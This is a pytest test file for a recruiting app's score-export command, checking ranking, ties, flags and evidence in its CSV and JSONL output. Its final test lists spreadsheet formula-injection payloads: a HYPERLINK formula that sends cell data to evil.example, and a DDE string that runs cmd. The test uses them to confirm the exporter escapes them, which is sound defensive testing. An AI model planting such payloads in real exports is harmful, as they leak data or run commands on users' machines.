"""export_scores: one ranked row per pair with components and evidence, in CSV and JSONL."""

import csv
import json

import pytest
from django.core.management import CommandError, call_command

from recruiting.services import candidate_upsert, vacancy_upsert
from tests.matching.test_tasks import DS_CV, SALES_CV, VACANCY

pytestmark = pytest.mark.django_db


@pytest.fixture
def scored(django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        vacancy_upsert(source="t", reference="mle", title="MLE", description=VACANCY)
        candidate_upsert(source="t", reference="ds", cv_text=DS_CV)
        candidate_upsert(source="t", reference="sales", cv_text=SALES_CV)
        candidate_upsert(source="t", reference="short", cv_text="Python.")


def test_csv_rows_are_ranked_with_components_and_evidence(scored, tmp_path):
    out = tmp_path / "scores.csv"
    call_command("export_scores", "--format", "csv", "--out", str(out))
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [r["candidate_ref"] for r in rows] == ["ds", "sales", "short"]
    # A pair without a score has no rank (matching.ranking); it is still listed, last.
    assert [r["rank"] for r in rows] == ["1", "2", ""] and [r["tied"] for r in rows] == ["", "", ""]
    top = rows[0]
    assert float(top["score"]) > float(rows[1]["score"])
    assert "Python (required" in top["matched_skills"] and "Kafka" in top["missing_skills"]
    assert "Python: " in top["evidence"] and top["engine_version"]
    assert float(top["required_score"]) > 0 and top["text_score"] != ""
    assert (
        rows[2]["score"] == ""
        and rows[2]["state"] == "insufficient_data"
        and "too little text" in rows[2]["reason"]
    )


def test_jsonl_top_k(scored, tmp_path):
    out = tmp_path / "scores.jsonl"
    call_command("export_scores", "--vacancy", "mle", "--top", "1", "--format", "jsonl", "--out", str(out))
    lines = [json.loads(x) for x in out.read_text().splitlines()]
    assert len(lines) == 1 and lines[0]["candidate_ref"] == "ds"
    assert lines[0]["matched_skills"][0]["evidence"]


def test_unknown_vacancy_is_a_clear_error(scored):
    with pytest.raises(CommandError, match="no vacancy with reference 'nope'"):
        call_command("export_scores", "--vacancy", "nope")


def test_ties_confidence_and_flags_columns(tmp_path):
    from recruiting.models import Vacancy
    from tests.factories import CandidateFactory, ContractMatchScoreFactory, EngineMatchScoreFactory

    vacancy = Vacancy.objects.create(source="t", reference="tie", title="Tie", description="x")
    ContractMatchScoreFactory(
        vacancy=vacancy, candidate=CandidateFactory(reference="b"), score=80.0, confidence="high"
    )
    EngineMatchScoreFactory(
        vacancy=vacancy, candidate=CandidateFactory(reference="a"), score=80.0, old_shape=True
    )
    ContractMatchScoreFactory(
        vacancy=vacancy, candidate=CandidateFactory(reference="c"), score=50.0, flags=()
    )
    out = tmp_path / "scores.csv"
    call_command("export_scores", "--vacancy", "tie", "--format", "csv", "--out", str(out))
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    # Ranking order: score, then the match score's id (not the candidate's reference).
    assert [r["candidate_ref"] for r in rows] == ["b", "a", "c"]
    assert [(r["rank"], r["tied"]) for r in rows] == [("1", "yes"), ("1", "yes"), ("3", "")]
    assert [r["confidence"] for r in rows] == ["high", "", "medium"]
    assert rows[0]["flags"] == (
        "keyword list: little evidence of use; CV in German: scored on recognised skills and qualifications"
    )
    assert rows[1]["flags"] == rows[2]["flags"] == ""
    assert "TensorFlow (desirable, 1.9, credited 60 % through PyTorch (related))" in rows[0]["matched_skills"]
    assert "Python (required, 8.3, used)" in rows[0]["matched_skills"]
    out = tmp_path / "scores.jsonl"
    call_command("export_scores", "--vacancy", "tie", "--top", "1", "--format", "jsonl", "--out", str(out))
    line = json.loads(out.read_text())
    assert line["rank"] == 1 and line["tied"] is True and line["flags"][0]["code"] == "keyword_list"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "\tTAB",
    "\rCR",
]


def test_csv_escapes_spreadsheet_formulas_in_references(tmp_path):
    """Issue 16, finding 7: a reference a spreadsheet would run as a formula is written as text (leading ')."""
    from recruiting.models import Vacancy
    from tests.factories import CandidateFactory, ContractMatchScoreFactory

    vacancy = Vacancy.objects.create(source="t", reference="=1+1", title="Formula", description="x")
    for i, ref in enumerate(FORMULAS):
        ContractMatchScoreFactory(vacancy=vacancy, candidate=CandidateFactory(reference=ref), score=90.0 - i)
    out = tmp_path / "scores.csv"
    call_command("export_scores", "--format", "csv", "--out", str(out))
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert [r["candidate_ref"] for r in rows] == ["'" + ref for ref in FORMULAS]
    assert {r["vacancy_ref"] for r in rows} == {"'=1+1"}
    assert rows[0]["score"] == "90.0"  # numbers are not touched
    # JSONL is data, not a spreadsheet: left as it is.
    out = tmp_path / "scores.jsonl"
    call_command("export_scores", "--format", "jsonl", "--out", str(out))
    assert [json.loads(x)["candidate_ref"] for x in out.read_text().splitlines()] == FORMULAS
